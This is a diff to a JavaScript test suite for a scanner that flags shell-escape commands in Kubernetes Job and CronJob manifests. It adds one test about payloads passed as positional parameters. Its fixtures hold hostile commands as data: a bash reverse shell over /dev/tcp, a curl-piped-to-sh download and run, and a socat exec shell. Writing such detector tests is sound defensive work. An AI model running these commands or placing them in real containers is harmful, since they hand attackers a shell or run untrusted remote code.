@@ -161,6 +161,12 @@ describe('shell-escape reporting', () => {
     assert.deepEqual(commandFindings('shell-escape', ['/app/run'], undefined, { env: [['STAGE', 'bash -i >& /dev/tcp/10.0.0.1/1 0>&1']] }), []);
   });
 
+  test('a payload passed as a positional parameter is reported at the scalar that holds it', () => {
+    const found = commandFindings('shell-escape', ['/bin/sh', '-c', 'eval "$1"', 'sh'], ['curl -s http://198.51.100.7/x | sh']);
+    assert.equal(found.length, 1);
+    assert.equal(found[0].path, containerPath('args', 0));
+  });
+
   test('Jobs are checked like CronJobs', () => {
     const text = job(['restartPolicy: Never', 'containers:', '- name: x', '  image: alpine', '  command: ["sh", "-c", "socat tcp:h:1 exec:sh"]'].join('\n'));
     const [finding] = findingsOf(text, 'shell-escape');
